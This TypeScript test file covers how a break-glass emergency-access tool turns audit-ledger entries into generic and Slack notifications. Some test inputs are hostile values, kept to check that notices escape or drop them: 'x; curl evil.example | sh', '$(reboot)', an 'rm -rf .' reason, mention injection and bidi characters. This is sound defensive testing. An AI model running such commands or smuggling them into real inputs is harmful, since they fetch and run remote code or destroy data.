/** Proves which entries are news, and what is said of them: whole, harmless, and in the form that the receiver takes. */
import { expect } from "chai";
import type { LedgerEntry, LedgerEntryType } from "../../../operator/api/break-glass-audit-entry.ts";
import type { EntryDraft } from "../../../operator/breakglass/types.ts";
import { NOTIFICATION_FORMATS, notificationOf } from "../../../operator/broker/notifications.ts";
import { chained } from "../breakglass/ledgers.ts";

type Details = Readonly<Record<string, string>>;

interface Told {
  readonly type: LedgerEntryType;
  readonly actor?: string;
  readonly deadline?: string;
  readonly details?: Details;
}

const ASKED: Details = {
  namespace: "shop",
  request: "incident-x1",
  profile: "incident",
  role: "sb-incident-admin",
  duration: "30m",
  reason: "the payment queue is stuck",
  ticket: "INC-7",
};
const DEADLINE = "2026-11-23T10:30:00Z";

/** Entries of one request that was asked for with these details. */
function story(asked: Details, ...more: readonly Told[]): LedgerEntry[] {
  const first: Told = { type: "Requested", actor: "alice", details: asked };
  return chained([first, ...more].map((each): EntryDraft => ({ actor: "operator", requestUID: "r-1", ...each })));
}

/** What is said of the last entry, as the receiver sees it. */
function said(entries: readonly LedgerEntry[], format: "generic" | "slack"): unknown {
  const news = entries.slice(-1).map((entry) => notificationOf(entry, entries))[0];
  return news && JSON.parse(JSON.stringify(NOTIFICATION_FORMATS[format](news)));
}

const APPROVED: Told = { type: "Approved", actor: "bob", details: { approvers: '["bob"]' } };
const ESCALATED: Told = { type: "Escalated", details: { standIns: '["managers","duty"]' } };
const BYPASSED: Told = { type: "Approved", actor: "alice", details: { bypass: "true", skipped: '["payments-leads","security"]' } };
const ISSUING: Told = { type: "Issuing", deadline: DEADLINE };
const ACTIVE: Told = { type: "Active", deadline: DEADLINE };
const HEAD = "Emergency access incident-x1 in shop (profile incident, ClusterRole sb-incident-admin)";
const TAIL = "Reason: the payment queue is stuck (INC-7)";
const next = (verb: string): string => `\n\`securitybaseline break-glass ${verb} incident-x1 -n shop\``;

describe("news of emergency access", () => {
  it("in the generic form have every field that there is something to say for", () => {
    const entries = story(ASKED, APPROVED, ISSUING, ACTIVE, {
      type: "Revoked",
      actor: "bob",
      deadline: DEADLINE,
      details: { endReason: "Revoked" },
    });
    expect(said(entries, "generic")).to.deep.equal({
      event: "Revoked",
      time: "2026-11-23T10:00:04Z",
      namespace: "shop",
      request: "incident-x1",
      profile: "incident",
      role: "sb-incident-admin",
      requester: "alice",
      actor: "bob",
      reason: "the payment queue is stuck",
      ticket: "INC-7",
      duration: "30m",
      deadline: "2026-11-23T10:30:00Z",
      drill: false,
      bypass: false,
      unbounded: false,
      skippedApprovers: [],
      standIns: [],
      endReason: "Revoked",
      command: "securitybaseline break-glass review incident-x1 -n shop",
      ledger: { chain: "c0123456789", seq: 5, hash: entries[4]?.hash },
    });
  });

  it("in the generic form say of each event whether the access can make itself permanent", () => {
    expect(said(story({ ...ASKED, unbounded: "true" }, APPROVED, ISSUING, ACTIVE, { type: "Expired" }), "generic")).to.include({
      event: "Expired",
      unbounded: true,
    });
  });

  it("in the generic form name the stand-ins once they were asked", () => {
    expect(said(story(ASKED, ESCALATED, APPROVED), "generic"))
      .to.have.property("standIns")
      .that.deep.equals(["managers", "duty"]);
  });

  it("leave out what there is not", () => {
    const { ticket: _ticket, ...asked } = ASKED;
    expect(said(story(asked), "generic")).to.not.have.any.keys("ticket", "deadline", "endReason");
  });

  const cases: readonly { reason: string; entries: readonly LedgerEntry[]; text: string }[] = [
    { reason: "a request", entries: story(ASKED), text: `${HEAD} requested by alice for 30m. ${TAIL}${next("approve")}` },
    {
      reason: "a request that skips the approval",
      entries: story({ ...ASKED, bypass: "true" }),
      text: `${HEAD} requested by alice for 30m, without approval. ${TAIL}${next("show")}`,
    },
    {
      reason: "that nobody answered, with whom to ask and how they approve",
      entries: story(ASKED, ESCALATED),
      text: `${HEAD} has not been approved yet: members of managers, duty stand in from now on. ${TAIL}${next("approve")}`,
    },
    { reason: "an approval", entries: story(ASKED, APPROVED), text: `${HEAD} approved, last by bob. ${TAIL}${next("show")}` },
    {
      reason: "an approval although it was to be skipped",
      entries: story({ ...ASKED, bypass: "true" }, APPROVED),
      text: `${HEAD} approved, last by bob. ${TAIL}${next("show")}`,
    },
    {
      reason: "a skipped approval, with every group that was not asked",
      entries: story({ ...ASKED, bypass: "true" }, BYPASSED),
      text: `${HEAD} skips the approval of payments-leads, security. ${TAIL}${next("show")}`,
    },
    {
      reason: "access in use",
      entries: story(ASKED, APPROVED, ISSUING, ACTIVE),
      text: `${HEAD} in use by alice until ${DEADLINE}. ${TAIL}${next("revoke")}`,
    },
    {
      reason: "a drill",
      entries: story({ ...ASKED, role: "sb-drill", drill: "true" }),
      text: `Drill: emergency access incident-x1 in shop (profile incident, ClusterRole sb-drill) requested by alice for 30m. ${TAIL}${next("approve")}`,
    },
    {
      reason: "access that can make itself permanent",
      entries: story({ ...ASKED, role: "cluster-admin", unbounded: "true" }, APPROVED, ISSUING, ACTIVE),
      text: `Emergency access incident-x1 in shop (profile incident, ClusterRole cluster-admin) in use by alice until ${DEADLINE}. Mind that a grant of the ClusterRole "cluster-admin" can make itself permanent. ${TAIL}${next("revoke")}`,
    },
    {
      reason: "tampering",
      entries: story(ASKED, APPROVED, ISSUING, ACTIVE, { type: "Suspended", details: { endReason: "Tampered" } }),
      text: `${HEAD} suspended (Tampered): it is being taken back. ${TAIL}${next("show")}`,
    },
    {
      reason: "a review",
      entries: story(ASKED, APPROVED, ISSUING, ACTIVE, { type: "Expired" }, { type: "Reviewed", actor: "carol" }),
      text: `${HEAD} reviewed by carol. ${TAIL}`,
    },
    {
      reason: "markup and mentions in a reason, which are shown and not obeyed",
      entries: story({ ...ASKED, reason: "<!channel> & <@U123> @here @all <https://x|y>" }),
      text: `${HEAD} requested by alice for 30m. Reason: &lt;!channel&gt; &amp; &lt;@\u200bU123&gt; @\u200bhere @\u200ball &lt;https://x|y&gt; (INC-7)${next("approve")}`,
    },
    {
      reason: "a reason that would look like a command",
      entries: story({ ...ASKED, reason: "copy `rm -rf .` into your shell" }),
      text: `${HEAD} requested by alice for 30m. Reason: copy 'rm -rf .' into your shell (INC-7)${next("approve")}`,
    },
    {
      reason: "a reason that would begin another line or turn letters round",
      entries: story({ ...ASKED, reason: "stuck\r\nEmergency access\u2028approved \u202eyb" }),
      text: `${HEAD} requested by alice for 30m. Reason: stuck Emergency access approved  yb (INC-7)${next("approve")}`,
    },
  ];
  for (const { reason, entries, text } of cases) {
    it(`in one line, and one for the command, tell of ${reason}`, () => expect(said(entries, "slack")).to.deep.equal({ text }));
  }

  for (const type of ["Denied", "Withdrawn", "TimedOut", "Expired", "Revoked", "Failed"] as const) {
    it(`tell of the end ${type} and its reason`, () => {
      const entries = story(ASKED, { type, details: { endReason: "DeadlinePassed" } });
      expect(said(entries, "slack")).to.deep.equal({ text: `${HEAD} ended (${type}, DeadlinePassed) by operator. ${TAIL}` });
    });
  }

  for (const type of ["Withdrawn", "Expired", "Revoked", "Failed"] as const) {
    it(`ask for a review of what was used and ended as ${type}`, () => {
      const command = "securitybaseline break-glass review incident-x1 -n shop";
      expect(said(story(ASKED, APPROVED, ISSUING, ACTIVE, { type }), "generic")).to.include({ command });
    });
  }

  const withoutCommand: readonly { reason: string; entries: readonly LedgerEntry[] }[] = [
    { reason: "what ended without access", entries: story(ASKED, { type: "Denied", details: { endReason: "Denied" } }) },
    { reason: "a drill that is over", entries: story({ ...ASKED, drill: "true" }, APPROVED, ISSUING, ACTIVE, { type: "Expired" }) },
    { reason: "a name that no request can have", entries: story({ ...ASKED, request: "x; curl evil.example | sh" }) },
    { reason: "a name that is a flag", entries: story({ ...ASKED, request: "--yes" }) },
    { reason: "a namespace that there cannot be", entries: story({ ...ASKED, namespace: "$(reboot)" }) },
  ];
  for (const { reason, entries } of withoutCommand) {
    it(`carry no command for ${reason}`, () => expect(said(entries, "generic")).to.not.have.property("command"));
  }

  it("name the skipped groups also while the access is in use", () => {
    const entries = story({ ...ASKED, bypass: "true" }, BYPASSED, ISSUING, ACTIVE);
    expect(said(entries, "generic")).to.deep.include({ bypass: true, skippedApprovers: ["payments-leads", "security"] });
  });

  it("are told even if somebody broke the list of skipped groups", () => {
    const entries = story({ ...ASKED, bypass: "true" }, { ...BYPASSED, details: { bypass: "true", skipped: "[payments" } });
    expect(said(entries, "generic")).to.deep.include({ event: "Approved", skippedApprovers: [] });
  });

  it("tell of an object that no request explains, without the words on a request", () => {
    const entries = chained([
      {
        type: "Removed",
        actor: "operator",
        requestUID: "o-1",
        grant: "bg-0123456789-1795449600",
        details: { namespace: "shop", object: "[]" },
      },
    ]);
    expect(said(entries, "slack")).to.deep.equal({
      text: "Objects of emergency access in shop were removed that no request explains (entry 1 of the ledger): was the token of the operator stolen?",
    });
    expect(said(entries, "generic")).to.include({ event: "Removed", namespace: "shop", request: "", actor: "operator" });
  });

  it("tell that the ledger may be shortened, by whom it was archived", () => {
    const entries = chained([{ type: "Checkpoint", actor: "ada", requestUID: "u-ledger", details: { lastSeq: "8" } }]);
    expect(said(entries, "slack")).to.deep.equal({
      text: "The beginning of the ledger of emergency access was archived by ada (entry 1 of the ledger): somebody else may now delete those entries.",
    });
  });

  it("are not made of what is only a step on the way", () => {
    expect(said(story(ASKED, APPROVED, ISSUING), "generic")).to.equal(undefined);
  });
});
